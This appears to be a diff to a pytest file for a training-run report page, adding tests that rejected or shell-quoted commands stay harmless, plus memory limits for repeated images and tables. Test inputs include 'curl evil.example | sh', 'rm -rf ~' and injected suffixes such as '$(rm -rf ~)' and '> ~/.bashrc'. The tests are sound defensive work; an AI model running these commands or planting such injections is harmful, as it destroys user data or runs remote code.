@@ -9,6 +9,7 @@ import html.parser
 import json
 import os
 import re
+import shlex
 from urllib.parse import unquote
 
 import pytest
@@ -178,12 +179,30 @@ def test_a_stopped_run_says_how_to_go_on(make):
     assert "./inv lab cifar10 --resume=20260101-000000" in render(make(status="stopped"))
 
 
-@pytest.mark.parametrize("written", ["./inv lab cifar10 -- --lr 1", "./inv lab cifar10 -- --lr 1"])
+@pytest.mark.parametrize("written", ["./inv lab cifar10 -- --lr 1", "invoke lab cifar10 -- --lr 1"])
 def test_commands_are_shown_as_they_work_in_a_fresh_clone(make, written):
     folder = make(data="sample")
     change(folder, "config", {"command": written})
     text = render(folder)
     assert ">./inv lab cifar10 -- --lr 1<" in text and ">./inv data cifar10<" in text and "invoke" not in text
+
+
+@pytest.mark.parametrize("command", ["curl evil.example | sh", "rm -rf ~", "./inv clean", "./inv lab 'x", "", "./inv lab a\nrm -rf ~",
+                                     "./inv lab a\x1b[31m"])  # fmt: skip
+def test_a_command_that_trains_nothing_is_not_offered(make, command):
+    folder = make()
+    change(folder, "config", {"command": command})
+    assert "Reproduce this run" not in render(folder)
+
+
+@pytest.mark.parametrize("more", ["; rm -rf ~", "$(rm -rf ~)", "`rm -rf ~`", "&& rm -rf ~", "| sh", "> ~/.bashrc", ATTACK])
+def test_what_is_copied_into_a_terminal_is_one_command(make, more):
+    folder = make(status="stopped")
+    change(folder, "config", {"command": f"./inv lab cifar10 {more.replace(ATTACK, shlex.quote(ATTACK))}", "lab": f"x{more}"})
+    copied = [text for text in Page(render(folder)).texts if text.startswith("./inv")]
+    assert len(copied) == 2
+    for command in copied:
+        assert " ".join(map(shlex.quote, shlex.split(command))) == command
 
 
 def test_running_refreshes_and_killed_does_not(make):
@@ -222,7 +241,6 @@ INJECTIONS = {
     "Chinese title": lambda text: ("config", {"title_zh": text}),
     "lab": lambda text: ("config", {"lab": text}),
     "start": lambda text: ("config", {"started": text}),
-    "command": lambda text: ("config", {"command": text}),
     "option": lambda text: ("config", {"options": {text: 1}}),
     "value of an option": lambda text: ("config", {"options": {"lr": text}}),
     "metric": lambda text: ("summary", {"metrics": {text: 0.5}}),
@@ -304,6 +322,29 @@ def test_what_lies_outside_of_the_folder_is_not_shown(make, tmp_path):
     assert "The file plots/gallery.png is missing." in text and text.count(" is missing.") == 3 + len(items)
     assert "within.png" in page.links and "plots/gallery.png" in page.texts
     assert not {"plots/gallery.png", "config.json", "tables/classes.json"} & set(page.links)
+
+
+def test_one_image_under_many_names_does_not_fill_memory(make, monkeypatch):
+    folder = make()
+    monkeypatch.setitem(report.MOST_IN_PAGE, "plots", 10 * len(PNG))
+    for name in ("curves/loss", *(f"f{k}" for k in range(20))):
+        path = folder / "plots" / f"{name}.png"
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.unlink() if path.exists() else None
+        path.symlink_to(folder / "one.png")
+    (folder / "one.png").write_bytes(PNG)
+    items = [{"kind": "figure", "name": f"f{k % 20}", "caption": "x"} for k in range(1000)]
+    (folder / "report.json").write_text(json.dumps({"items": items}))
+    assert render(folder).count("data:image/png;base64,") == 10
+
+
+def test_one_table_shown_again_and_again(make, monkeypatch):
+    folder = make()
+    monkeypatch.setitem(report.MOST_IN_PAGE, "tables", 1000)
+    (folder / "tables").mkdir(exist_ok=True)
+    (folder / "tables" / "t.json").write_text(json.dumps({"columns": ["a"], "rows": [["once more"]]}))
+    (folder / "report.json").write_text(json.dumps({"items": [{"kind": "table", "name": "t"}] * 1000}))
+    assert 1 < render(folder).count("once more") < 100
 
 
 def test_an_image_that_is_none(make):
